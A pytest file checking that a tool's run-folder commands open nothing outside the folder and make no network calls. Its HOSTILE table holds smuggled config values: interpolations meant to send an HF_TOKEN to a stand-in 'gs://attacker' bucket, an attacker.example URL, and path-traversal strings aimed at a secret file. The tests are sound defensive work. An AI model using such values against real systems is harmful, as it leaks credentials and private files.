"""A run folder is data: whatever is written in it, commands open nothing outside it until the reader says so."""

import json
import os
import shutil
import sys
import sysconfig
import tempfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import matplotlib
import pytest
from text_runs import text_run

from pod_job.checking.consent import Consent, config_to_read
from pod_job.commands import diff, export, inspect, merge, report, shuffle, verify
from pod_job.errors import JobError
from pod_job.reading.dataset import ActivationDataset
from pod_job.run_folder import layout
from pod_job.storage.open import open_folder

REPOSITORY = Path(__file__).parents[2]
INSTALLED = [
    Path(place) for place in {*sysconfig.get_paths().values(), sys.prefix, sys.base_prefix, *sys.path} if place
]
SYSTEM = [Path(place) for place in ("/proc", "/sys", "/dev", "/usr", "/lib", "/etc/mime.types", "/etc/localtime")]
HOSTILE = {
    "environment": "x:${oc.env:HF_TOKEN}",
    "environment in a bucket": "gs://attacker/${oc.env:HF_TOKEN}",
    "escaped environment": "\\${oc.env:HF_TOKEN}\\\\${oc.env:HF_TOKEN}",
    "environment, decoded": "${oc.decode:${oc.env:HF_TOKEN}}",
    "bucket": "gs://attacker/run",
    "hub name": "attacker/model",
    "URL": "https://attacker.example/x",
    "absolute path": "{secret}",
    "path up": "../secret",
    "path up from the repository": "../../../../../../../../{secret}",
}
EVENTS = ("open", "os.listdir", "os.scandir", "socket.connect", "socket.getaddrinfo", "subprocess.Popen", "os.exec")
heard: list[tuple[str, str]] | None = None


def hear(event: str, args: tuple[Any, ...]) -> None:
    if heard is not None and event in EVENTS:
        heard.append((event, os.fsdecode(args[0]) if isinstance(args[0], str | bytes) else str(args[0])))


sys.addaudithook(hear)


@contextmanager
def only_within(*places: Path) -> Iterator[None]:
    """Fails where the block opens a file outside the places and what is installed, or anything over a network."""
    global heard
    allowed = [
        *places,
        *INSTALLED,
        *SYSTEM,
        REPOSITORY,
        Path(matplotlib.get_cachedir()),
        Path(matplotlib.get_configdir()),
    ]
    allowed = [variant for place in allowed for variant in (place.absolute(), place.resolve())]
    heard = []
    try:
        yield
        events = heard
    finally:
        heard = None
    for event, name in events:
        number = name.isdecimal() or name.startswith("-")  # a file descriptor
        nameless = (event, name) == ("open", tempfile.gettempdir())  # a temporary file that has no name
        path = Path(os.path.normpath(Path(name).absolute()))
        assert event in ("open", "os.listdir", "os.scandir"), (event, name)
        assert number or nameless or any(path.is_relative_to(place) for place in allowed), (event, name)


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with a run of last positions, its model, and a file that is nobody's business."""
    place = tmp_path_factory.mktemp("sealed")
    text_run(open_folder(place / "run"), place / "model", "last")
    (place / "secret").write_text('{"text": "the secret"}\n')
    return place


@pytest.fixture
def hostile(made: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Callable[..., Path]:
    """Returns a copy of the run, in which every place that it records is the value."""
    monkeypatch.setenv("HF_TOKEN", "hf_token_of_the_reader")
    monkeypatch.setenv("HF_HUB_OFFLINE", "1")

    def make(value: str, *, private: bool = True) -> Path:
        run = tmp_path / "run"
        shutil.copytree(made / "run", run)
        value = value.replace("{secret}", str(made / "secret"))
        if not private:
            (run / layout.START).unlink()
        for name in (layout.START, layout.RUN) if private else (layout.RUN,):
            record = json.loads((run / name).read_text())
            config = record["config"]
            config["model"] |= {"path": value, "revision": value}
            config["tasks"] |= {"path": value, "subset": value, "format": "dataset"}
            config["storage"] |= {"run_dir": value, "compile_cache": value}
            config["cloud"] = {"project": value, "labels": {"a": value}, "ssh_flags": [value], "python": value}
            (run / name).write_text(json.dumps(record))
        return run

    return make


@pytest.mark.parametrize("kind", HOSTILE)
def test_commands_open_nothing_outside_the_run_folder(
    kind: str, hostile: Callable[..., Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    run, out = hostile(HOSTILE[kind], private="path" not in kind), tmp_path / "out"
    out.mkdir()
    with only_within(run, out):
        assert inspect.main([str(run)]) == 0
        assert inspect.main([str(run), "--row", "1"]) == 0
        assert "--follow-recorded" in capsys.readouterr().out
        assert verify.main([str(run)]) == 0
        assert verify.main([str(run), "--recompute", "2"]) == 2
        assert merge.main([str(run)]) == 0
        assert diff.main([str(run), str(run)]) == 0
        assert ActivationDataset(run, 1)[0].shape == (32,)
        if kind in ("environment", "absolute path"):  # what takes a second each
            assert report.main([str(run)]) == 0
        if kind == "environment":
            assert export.main([str(run), str(out / "pickles")]) == 0
            assert shuffle.main([str(run), str(out / "shuffled")]) == 0
    printed = "".join(capsys.readouterr())
    written = b"".join(path.read_bytes() for path in tmp_path.rglob("*") if path.is_file())
    assert "hf_token_of_the_reader" not in printed + written.decode(errors="replace")
    assert "the secret" not in printed + written.decode(errors="replace")


def test_the_hook_hears_what_commands_open(made: Path) -> None:
    """The test above can fail."""
    with pytest.raises(AssertionError, match="secret"), only_within(made / "run"):
        (made / "secret").read_text()
    with pytest.raises(AssertionError, match="model"), only_within(made / "run"):
        assert inspect.main([str(made / "run"), "--row", "1", "--follow-recorded"]) == 0


@pytest.mark.parametrize("kind", HOSTILE)
def test_recorded_values_are_text_also_with_consent(kind: str, hostile: Callable[..., Path]) -> None:
    run, key = hostile(HOSTILE[kind]), "model.path"
    config = config_to_read(open_folder(run), Consent(follow_recorded=True), key)
    value = json.loads((run / layout.START).read_text())["config"]["model"]["path"]
    assert (config.model.path, config.model.revision, config.tasks.subset) == (value, value, value)
    assert (config.storage.run_dir, config.storage.compile_cache) == (str(run), None)  # which nobody asked for
    assert config_to_read(open_folder(run), Consent(["model.path=here"]), key).model.path == "here"
    assert config_to_read(open_folder(run), Consent(["model.path=here"]), key).tasks.path == ""


@pytest.mark.parametrize(
    ("overrides", "missing"),
    [([], "model.path and tasks.path"), (["model.path=x"], "tasks.path"), (["+tasks.path=x"], "model.path")],
)
def test_without_consent_the_fix_is_named(overrides: list[str], missing: str, made: Path) -> None:
    with pytest.raises(JobError, match=rf"{missing} of a run are not opened unasked; give .*or --follow-recorded"):
        config_to_read(open_folder(made / "run"), Consent(overrides), "model.path", "tasks.path")


def test_a_published_run_says_which_inputs_are_not_recorded(made: Path, tmp_path: Path) -> None:
    shutil.copytree(made / "run", tmp_path / "run", ignore=shutil.ignore_patterns("launcher"))
    with pytest.raises(JobError, match=r"model\.path is not recorded, as in a published run; give model\.path="):
        config_to_read(open_folder(tmp_path / "run"), Consent(follow_recorded=True), "model.path")


def test_rows_are_text_without_the_model_where_all_positions_are_stored(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    text_run(open_folder(tmp_path / "run"), tmp_path / "model")
    shutil.rmtree(tmp_path / "model")
    shutil.rmtree(tmp_path / "run" / "launcher")
    assert inspect.main([str(tmp_path / "run"), "--row", "2", "--json"]) == 0
    row = json.loads(capsys.readouterr().out)
    assert (row["before"], row["token"], row["after"][:3]) == ("In", "p", "ut:")
    assert "note" not in row
